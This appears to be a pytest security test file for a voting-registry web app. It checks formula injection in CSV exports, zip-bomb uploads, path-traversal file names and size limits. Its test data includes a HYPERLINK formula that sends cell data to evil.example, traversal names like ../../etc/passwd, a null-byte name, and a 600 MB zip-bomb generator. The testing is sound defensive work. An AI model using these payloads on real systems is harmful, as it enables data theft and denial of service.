"""ATTACKS 16, files: formulas in what is exported, bombs and strange names in what is imported."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import date
from typing import Any

import pytest

from audit.clock import day_of, utc_now
from tests.conftest import ZONE
from tests.web.site import Browser, Site
from voting.registry.models import Affiliation, Person, Unit
from web.identity.entries import AccountsCreated
from web.identity.roles import Role

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def upload(browser: Browser, name: str, content: bytes) -> Any:
    return browser.submit(
        "/registrar/imports",
        {"as_of": day_of(utc_now(), ZONE).isoformat(), "kind": "roll"},
        page="/registrar/imports",
        files={"file": (name, content, "application/octet-stream")},
    )


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1"])
def test_no_cell_of_an_export_is_a_formula(site: Site, name: str) -> None:
    """Even when the formula has reached the database by another way than the import."""
    with site.database.transaction() as uow:
        unit = Unit(code="U1", name="村", kind="village", valid_from=date(2020, 1, 1))
        person = Person(member_no="M1", name=name, status="full")
        uow.session.add_all([unit, person])
        uow.session.flush()
        uow.session.add(
            Affiliation(
                person_id=person.id, unit_id=unit.id, voting=True, valid_from=date(2020, 1, 1)
            )
        )
        uow.record(AccountsCreated(count=1))
    answer = site.sign_in(Role.REGISTRAR).submit("/registrar/export", page="/registrar")
    assert answer.status_code == 200
    found = cells(answer.text)
    assert any(name.strip() in cell for cell in found)
    assert not [cell for cell in found if cell.startswith(DANGEROUS)]


def test_the_list_of_problems_repeats_no_formula(site: Site) -> None:
    registrar = site.sign_in(Role.REGISTRAR)
    rows = f'member_no,name\nM1,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
    answer = upload(registrar, "roll.csv", rows.encode())
    if answer.status_code == 303:
        place = answer.headers["location"]
        found = cells(registrar.get(f"{place}/problems.csv").text)
        assert not [cell for cell in found if cell.startswith(DANGEROUS)]
    else:
        assert answer.status_code == 422


def bomb(megabytes: int) -> bytes:
    """A workbook whose sheet unpacks to very much."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(megabytes):
                sheet.write(b"0" * (1 << 20))
    return file.getvalue()


def test_a_workbook_that_unpacks_to_very_much_is_refused_quickly(site: Site) -> None:
    registrar = site.sign_in(Role.REGISTRAR)
    content = bomb(600)
    begun = time.process_time()
    answer = upload(registrar, "roll.xlsx", content)
    assert answer.status_code == 422
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.csv", "..\\..\\x.csv", "/etc/passwd", "a\x00.csv", "<b>.csv"]
)
def test_the_name_of_an_upload_is_only_a_name(site: Site, name: str) -> None:
    registrar = site.sign_in(Role.REGISTRAR)
    before = {p for p in site.settings.data_dir.rglob("*") if "log" not in p.parts}
    answer = upload(registrar, name, b"member_no,name\nM1,x\n")
    assert answer.status_code in (303, 422)
    after = {p for p in site.settings.data_dir.rglob("*") if "log" not in p.parts}
    assert {p.name for p in after - before} <= {"mandate.sqlite-wal", "mandate.sqlite-shm"}
    assert "<b>.csv" not in registrar.get("/registrar/imports").text


def test_an_upload_larger_than_the_limit_is_refused(site: Site) -> None:
    registrar = site.sign_in(Role.REGISTRAR)
    content = b"x" * (site.settings.max_upload_mib * 1024 * 1024 + 1)
    assert upload(registrar, "roll.csv", content).status_code == 413
